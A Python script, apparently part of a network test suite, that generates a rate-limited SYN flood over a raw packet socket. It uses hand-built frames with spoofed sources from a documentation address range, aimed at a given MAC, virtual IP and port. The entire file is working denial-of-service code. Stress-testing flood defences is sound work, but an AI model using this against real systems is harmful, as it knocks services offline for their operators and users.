"""A SYN flood: `python flood.py INTERFACE MAC VIP PORT SECONDS [PER_SECOND]`, from the documentation's 203.0.113.0/24.

Each SYN has another source; whatever comes back meets nobody. Prints how many were sent, when the time is over or
SIGTERM comes.
"""

from __future__ import annotations

import contextlib
import signal
import socket
import struct
import sys
import time
from ipaddress import IPv4Address

from tests.packets.checksums import ones_complement

ETH_P_IP = 0x0800
BURST = 64


class _Over(Exception):
    pass


def syn(number: int, mac: bytes, vip: bytes, port: int) -> bytes:
    """The frame with this number; 253 * 60000 of them differ."""
    source = bytes([203, 0, 113, 1 + number % 253])
    options = bytes.fromhex("020405b40402080a000000010000000001030307")  # MSS, SACK, timestamps, window scale
    head = struct.pack(
        "!HHIIBBHHH", 1024 + number // 253 % 60000, port, number & 0xFFFFFFFF, 0, 10 << 4, 2, 64240, 0, 0
    )
    total = ones_complement(source + vip + struct.pack("!HH", 6, 40) + head + options)
    segment = head[:16] + (~total & 0xFFFF).to_bytes(2, "big") + head[18:] + options
    header = struct.pack("!BBHHHBBH", 0x45, 0, 60, 0, 0x4000, 64, 6, 0) + source + vip
    header = header[:10] + (~ones_complement(header) & 0xFFFF).to_bytes(2, "big") + header[12:]
    return mac + b"\x02\0\0\0\0\x66\x08\0" + header + segment


def _over(*_: object) -> None:
    raise _Over


def main(interface: str, mac: str, vip: str, port: int, seconds: float, per_second: int) -> None:
    signal.signal(signal.SIGTERM, _over)
    sent, started = 0, time.monotonic()
    target, address = bytes.fromhex(mac.replace(":", "")), IPv4Address(vip).packed
    with contextlib.suppress(_Over), socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface, ETH_P_IP))
        print("ready", flush=True)
        while (now := time.monotonic() - started) < seconds:
            if sent > now * per_second:
                time.sleep(0.001)
                continue
            for number in range(sent, sent + BURST):
                with contextlib.suppress(BlockingIOError, OSError):  # the device's queue is full
                    sock.send(syn(number, target, address, port))
            sent += BURST
    print(sent, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:4], int(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6]))  # type: ignore[misc]
